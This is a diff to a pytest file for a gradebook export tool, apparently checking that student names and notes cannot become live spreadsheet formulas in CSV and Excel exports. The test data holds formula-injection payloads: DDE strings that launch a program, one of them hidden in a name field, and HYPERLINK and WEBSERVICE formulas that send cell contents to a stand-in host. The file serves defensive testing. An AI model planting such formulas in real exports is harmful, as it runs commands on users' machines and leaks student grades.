@@ -2,6 +2,7 @@
 
 import csv
 import io
+import re
 
 import pytest
 from openpyxl import load_workbook
@@ -9,7 +10,9 @@ from openpyxl import load_workbook
 from cxkit.cli import main
 from cxkit.coursework.gradebook import AssignmentSettings, Grade
 from cxkit.coursework.gradebook.exports import (
+    FORMULA_SIGNS,
     as_csv,
+    as_written,
     as_xlsx,
     filled,
     for_nbgrader,
@@ -195,16 +198,39 @@ def test_a_file_made_from_the_roster_is_read_back_as_the_same_class(system, tmp_
     assert again.data == export.data
 
 
-@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1"])
+# What a stranger wants a spreadsheet to do, and the name or note that has it do so
+FORMULAS = {
+    "compute": "=1+1", "compute by a plus": "+1", "compute by a minus": "-1", "compute by an at": "@SUM(A1)",
+    "compute after a tab": "\t=1", "compute after a carriage return": "\r=1", "compute after a line end": "\n=1",
+    "start a program": "=cmd|'/C calc'!A0", "start a program by a minus": "-2+3+cmd|'/C calc'!A0",
+    "start a program from a name": "Li; Wei;=cmd|'/C calc'!A0;", "send marks away": '=HYPERLINK("https://x.example/"&A1)',
+    "send marks away from a later cell": 'a;=WEBSERVICE("https://x.example/"&B1);b', "begin a cell at a tab": "a\t=1+1",
+    "begin a row at a line end": "a\n=1+1", "begin a row at a carriage return": "a\r@SUM(A1)",
+    "compute by wide letters": "\uff1d1+1", "compute by a wide plus": "\uff0b1",
+    "compute after a semicolon": "a;\uff1d1+1",
+}  # fmt: skip
+
+
+def is_computed(text, separator):
+    """Whether a spreadsheet with this separator, which knows no quotes within a cell, finds a formula."""
+    cells = [cell for line in text.splitlines() for cell in line.split(separator)]
+    return any(cell.startswith(FORMULA_SIGNS) and not re.fullmatch(r"-?[\d.]+", cell) for cell in cells) or (
+        text.startswith(FORMULA_SIGNS)
+    )
+
+
+@pytest.mark.parametrize("text", FORMULAS.values(), ids=FORMULAS)
 def test_formulas_of_strangers_stay_texts(text, tmp_path):
-    assert harmless(text) == f"'{text}"
+    assert any(is_computed(text, separator) for separator in ",;\t"), "the attack itself is broken"
+    assert as_written(harmless(text)) == text
     roster = roster_of([Student(id="s1", name=text, section=text, sortable_name=text, email=text, login="")])
     grades = [Grade(student="s1", assignment="hw1", points=1.0, out_of=10, note=text)]
     table = overview(grades, [Total(student="s1", share=0.1)], {"hw1": HW1}, roster)
     made = [from_roster(system, grades, HW1, roster) for system in ("canvas", "moodle", "blackboard", "brightspace")]
     for export in (*made, as_csv(*table), for_nbgrader(grades, roster)):
         for row in csv.reader(io.StringIO(export.data.decode(), newline="")):
-            assert not [cell for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))]
+            assert not [cell for cell in row if cell.startswith(FORMULA_SIGNS)]
+        assert not [separator for separator in ",;\t" if is_computed(export.data.decode(), separator)]
     book = load_workbook(as_xlsx(tmp_path / "grades.xlsx", *table))
     assert {cell.data_type for row in book.active.iter_rows() for cell in row} <= {"s", "n"}
 
